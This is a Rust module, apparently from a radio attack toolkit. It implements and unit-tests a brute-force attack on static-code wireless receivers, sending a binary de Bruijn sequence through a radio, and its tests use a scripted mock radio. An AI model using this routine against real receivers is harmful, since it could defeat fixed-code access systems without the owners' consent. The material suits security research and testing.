//! Static-code brute force with a binary de Bruijn sequence

use tracing::info;

use super::{idle_with_retry, AttackError, Role};
use crate::capture::RetryPolicy;
use crate::codec;
use crate::debruijn::{self, Alphabet};
use crate::radio::{configure, Radio, RadioSettings};

/// Transmit the binary de Bruijn sequence covering every `order`-bit code
///
/// Returns the number of bits sent.
pub fn debruijn_attack<R: Radio + ?Sized>(
    radio: &mut R,
    settings: &RadioSettings,
    order: usize,
    retry: &RetryPolicy,
) -> Result<usize, AttackError> {
    let sequence = debruijn::generate(Alphabet::Arity(2), order)?;
    let bits = codec::bits_from_symbols(&sequence.to_string())?;
    let payload = codec::bits_to_bytes(&bits);

    configure(radio, settings).map_err(|source| AttackError::RadioInit {
        role: Role::Sniffer,
        source,
    })?;

    info!(
        "Sending {} bit binary de Bruijn payload ({} bytes)",
        bits.len(),
        payload.len()
    );
    let sent = radio.transmit_frame(&payload).map_err(AttackError::Transmit);
    idle_with_retry(radio, Role::Sniffer, retry)?;
    sent?;

    Ok(bits.len())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::debruijn::DeBruijnError;
    use crate::radio::scripted::{Call, ScriptedRadio};

    #[test]
    fn test_debruijn_attack_sends_packed_sequence() {
        let (mut radio, journal) = ScriptedRadio::standalone("radio");
        let bits = debruijn_attack(&mut radio, &RadioSettings::default(), 3, &RetryPolicy::default())
            .unwrap();
        assert_eq!(bits, 8);

        let calls = journal.calls_for("radio");
        // 00010111
        assert!(calls.contains(&Call::Transmit(vec![0x17])));
        assert_eq!(calls.last(), Some(&Call::SetIdleMode));
    }

    #[test]
    fn test_debruijn_attack_pads_last_byte() {
        let (mut radio, journal) = ScriptedRadio::standalone("radio");
        let bits = debruijn_attack(&mut radio, &RadioSettings::default(), 2, &RetryPolicy::default())
            .unwrap();
        assert_eq!(bits, 4);
        // 0011 padded to 00110000
        assert!(journal.calls_for("radio").contains(&Call::Transmit(vec![0x30])));
    }

    #[test]
    fn test_debruijn_attack_rejects_zero_order() {
        let (mut radio, journal) = ScriptedRadio::standalone("radio");
        let err = debruijn_attack(&mut radio, &RadioSettings::default(), 0, &RetryPolicy::default())
            .unwrap_err();
        assert!(matches!(err, AttackError::DeBruijn(DeBruijnError::ZeroLength)));
        assert!(journal.entries().is_empty());
    }

    #[test]
    fn test_debruijn_attack_idle_retries_follow_policy() {
        let (radio, journal) = ScriptedRadio::standalone("radio");
        let mut radio = radio.failing("set_idle_mode");
        let retry = RetryPolicy {
            max_retries: 2,
            backoff: std::time::Duration::from_millis(1),
        };

        let err = debruijn_attack(&mut radio, &RadioSettings::default(), 3, &retry).unwrap_err();
        assert!(matches!(err, AttackError::Idle { role: Role::Sniffer, .. }));
        let idles = journal
            .calls_for("radio")
            .into_iter()
            .filter(|c| *c == Call::SetIdleMode)
            .count();
        assert_eq!(idles, 3);
    }
}
